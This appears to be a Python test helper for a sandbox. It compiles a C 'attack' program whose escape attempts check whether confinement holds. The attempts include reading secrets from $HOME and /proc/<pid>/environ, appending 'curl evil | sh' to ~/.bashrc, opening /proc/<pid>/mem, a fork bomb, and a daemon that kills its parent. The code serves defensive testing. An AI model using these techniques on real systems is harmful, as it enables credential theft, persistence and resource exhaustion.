"""Hostile programs against the sandbox, shared by tests/unit/test_sandbox_levels.py and
benchmarks/attack_lsp.py.

One C program, ``attack WHAT ARGS``, tries one escape and says what happened: exit 0 and a line
starting "escaped" when it got through, exit 3 and "blocked: <reason>" when the sandbox stopped it.
The "server" it attacks is a :class:`Victim`: a process of the program's own uid (what a server run
by an ordinary user is to the program) holding a secret in its environment, so that only the
sandbox, not a uid check, can stand between them.
"""

from __future__ import annotations

import contextlib
import dataclasses
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

from cass_lsp.verify import sandbox
from cass_lsp.verify.confine import NOBODY
from cass_lsp.verify.sandbox import Limits

GCC = "/usr/bin/gcc"
SECRET = "cass-attack-secret-7f3e"
ESCAPED, BLOCKED = 0, 3

SOURCE = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int blocked(const char *what) {
    printf("blocked: %s: %s\n", what, strerror(errno));
    return 3;
}

static int escaped(const char *what) {
    printf("escaped: %s\n", what);
    return 0;
}

/* Read a whole file; escaped when it holds the secret. */
static int read_secret(const char *path) {
    char buf[1 << 16];
    int fd = open(path, O_RDONLY);
    if (fd < 0) return blocked(path);
    ssize_t n = read(fd, buf, sizeof buf - 1);
    if (n < 0) return blocked(path);
    buf[n] = 0;
    for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = '\n';
    if (strstr(buf, "SECRET_MARK")) return escaped(path);
    errno = ENODATA;
    return blocked(path);
}

int main(int argc, char **argv) {
    const char *what = argv[1], *arg = argc > 2 ? argv[2] : "";
    char path[4096];
    if (!strcmp(what, "read")) return read_secret(arg);
    if (!strcmp(what, "append")) {
        int fd = open(arg, O_WRONLY | O_APPEND);
        if (fd < 0 || write(fd, "curl evil | sh\n", 15) != 15) return blocked(arg);
        return escaped(arg);
    }
    if (!strcmp(what, "environ")) {
        snprintf(path, sizeof path, "/proc/%s/environ", arg);
        return read_secret(path);
    }
    if (!strcmp(what, "mem")) {
        snprintf(path, sizeof path, "/proc/%s/mem", arg);
        if (open(path, O_RDWR) < 0) return blocked(path);
        return escaped(path);
    }
    if (!strcmp(what, "signal")) {
        if (kill(atoi(arg), SIGCONT) != 0) return blocked("kill");
        return escaped("kill");
    }
    if (!strcmp(what, "connect")) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) return blocked("socket");
        struct sockaddr_in a = {0};
        a.sin_family = AF_INET;
        a.sin_port = htons(atoi(arg));
        a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return blocked("connect");
        return escaped("connect");
    }
    if (!strcmp(what, "fork")) {
        int n = 0;
        for (; n < 1000; n++) {
            pid_t pid = fork();
            if (pid == 0) { pause(); _exit(0); }
            if (pid < 0) break;
        }
        if (n < 1000) { printf("blocked: fork %d: %s\n", n, strerror(errno)); return 3; }
        return escaped("fork 1000");
    }
    if (!strcmp(what, "outlive")) {
        /* A child leaves the session, kills the launcher (or init) that would reap it, and keeps
           running; whether it outlived the run is the caller's to see. */
        pid_t parent = getppid();
        int report[2];
        if (pipe(report) != 0) return 2;
        if (fork() == 0) {
            setsid();
            int err = kill(parent, SIGKILL) == 0 ? 0 : errno;
            write(report[1], &err, sizeof err);
            close(0), close(1), close(2); /* as a daemon does: nothing ties it to the run's pipes */
            for (;;) pause();
        }
        int err;
        if (read(report[0], &err, sizeof err) != sizeof err) return 2;
        printf("kill(parent): %s\n", err == 0 ? "sent" : strerror(err));
        return err == 0 ? 0 : 3;
    }
    fprintf(stderr, "unknown attack %s\n", what);
    return 2;
}
""".replace("SECRET_MARK", SECRET)


def build(out: Path) -> Path:
    """Compile the attack program into ``out``; returns its path."""
    (out / "attack.c").write_text(SOURCE)
    exe = out / "attack"
    subprocess.run([GCC, "-O1", "-o", str(exe), str(out / "attack.c")], check=True, timeout=120)
    return exe


@dataclasses.dataclass
class Victim:
    """A process standing for the server: the program's uid, a secret in its environment."""

    process: subprocess.Popen[bytes]

    @property
    def pid(self) -> int:
        return self.process.pid


@contextlib.contextmanager
def victim() -> Iterator[Victim]:
    # A root server runs programs as nobody: the victim is then nobody too; otherwise our own uid.
    user = NOBODY if os.geteuid() == 0 else None
    process = subprocess.Popen(
        ["/bin/sleep", "600"], env={"CASS_API_KEY": SECRET}, user=user, group=user, extra_groups=[] if user else None
    )
    try:
        yield Victim(process)
    finally:
        process.kill()
        process.wait()


def _visible_folder() -> Path:
    beside_venv = Path(sys.prefix).resolve().parent
    hidden = [Path(os.path.realpath(folder)) for folder in ("/tmp", "/var/tmp", "/dev/shm")]
    if not any(beside_venv == h or h in beside_venv.parents for h in hidden):
        return beside_venv
    elsewhere = Path("/var/lib/cass-lsp-tests")
    elsewhere.mkdir(parents=True, exist_ok=True)
    return elsewhere


@contextlib.contextmanager
def fake_home() -> Iterator[Path]:
    """A $HOME with a secret and a .bashrc the program's uid could read and append to were it not
    confined. It lies where no other rule of the sandbox hides it: beside the venv, unless the
    checkout is below a folder every confined run hides (a clone in /tmp)."""
    home = Path(tempfile.mkdtemp(prefix="cass-home-", dir=_visible_folder()))
    try:
        home.chmod(0o755)
        (home / "secret").write_text(SECRET + "\n")
        (home / "secret").chmod(0o644)
        (home / ".bashrc").write_text("# bashrc\n")
        (home / ".bashrc").chmod(0o666)
        yield home
    finally:
        shutil.rmtree(home)


@contextlib.contextmanager
def loopback_port() -> Iterator[int]:
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(16)
        yield server.getsockname()[1]


def leftovers(marker: str) -> list[str]:
    """Processes whose command line names ``marker`` (the run's work dir)."""
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            text = cmdline.read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if marker in text:
            found.append(f"{cmdline.parent.name}: {text}")
    return found


def attacks(home: Path, victim_pid: int, port: int) -> list[tuple[str, list[str]]]:
    """Every attack with its arguments: (name, argv after the program)."""
    return [
        ("read a file in $HOME", ["read", str(home / "secret")]),
        ("append to ~/.bashrc", ["append", str(home / ".bashrc")]),
        ("read /proc/<server>/environ", ["environ", str(victim_pid)]),
        ("open /proc/<server>/mem read-write", ["mem", str(victim_pid)]),
        ("signal the server", ["signal", str(victim_pid)]),
        ("connect to a loopback port", ["connect", str(port)]),
        ("fork 1,000 times", ["fork"]),
        ("setsid, kill the parent, keep running", ["outlive"]),
    ]


def run_attack(
    exe: Path, args: list[str], *, allow_unconfined: bool = False
) -> tuple[sandbox.RunOutcome | sandbox.SandboxError, list[str]]:
    """Run one attack in a fresh work dir at the current level; returns the outcome (or the
    sandbox's failure: an attack may take the launcher down) and the processes that outlived the
    run (each killed afterwards)."""
    with sandbox.fresh_workdir("cass-attack-") as work:
        program = work / "attack"
        program.write_bytes(exe.read_bytes())
        program.chmod(stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP | stat.S_IROTH | stat.S_IXOTH)
        outcome: sandbox.RunOutcome | sandbox.SandboxError
        try:
            outcome = sandbox.run(
                [program, *args], workdir=work, limits=Limits(timeout_seconds=5), allow_unconfined=allow_unconfined
            )
        except sandbox.SandboxError as error:
            outcome = error
        return outcome, _settle(str(work))


def _settle(marker: str) -> list[str]:
    """What is still running a second after the run (the kernel may take a moment to tear a
    namespace down); each such process is then killed so that one escape does not leak into the
    next run."""
    deadline = time.monotonic() + 1.0
    while (left := leftovers(marker)) and time.monotonic() < deadline:
        time.sleep(0.05)
    for line in left:
        with contextlib.suppress(ProcessLookupError, ValueError):
            os.kill(int(line.split(":", 1)[0]), 9)
    return left
